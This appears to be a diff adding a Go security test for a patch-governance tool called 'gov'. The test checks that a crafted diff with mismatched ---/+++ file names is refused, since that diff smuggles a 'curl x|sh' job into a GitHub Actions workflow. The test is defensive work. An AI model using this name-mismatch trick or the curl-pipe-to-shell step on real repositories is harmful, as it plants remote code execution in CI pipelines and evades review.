@@ -205,3 +205,14 @@ func TestAttackA13EvalYAMLAnchorErrorEchoesSecret(t *testing.T) {
 	}
 	a13NoRaw(t, "gov eval output", out, pat.Secret)
 }
+
+// A traditional diff whose ---/+++ names differ: gov decides the +++ name
+// (docs/deploy.yml, "modified"), GNU patch -p1 modifies the --- name, an
+// existing workflow. The change to .github/workflows/deploy.yml is allowed.
+func TestAttackA13TraditionalDiffMismatchedNames(t *testing.T) {
+	diff := "--- a/.github/workflows/deploy.yml\n+++ b/docs/deploy.yml\n@@ -1,2 +1,2 @@\n on: push\n-jobs: {}\n+jobs: {evil: {runs-on: x, steps: [{run: curl x|sh}]}}\n"
+	code, out := a13Gov(t, "eval", "--env", "staging", "--patch", a13Write(t, "p.diff", []byte(diff)))
+	if code == 0 {
+		t.Errorf("exit 0 (allow) for a change GNU patch applies to .github/workflows/deploy.yml:\n%s", out)
+	}
+}
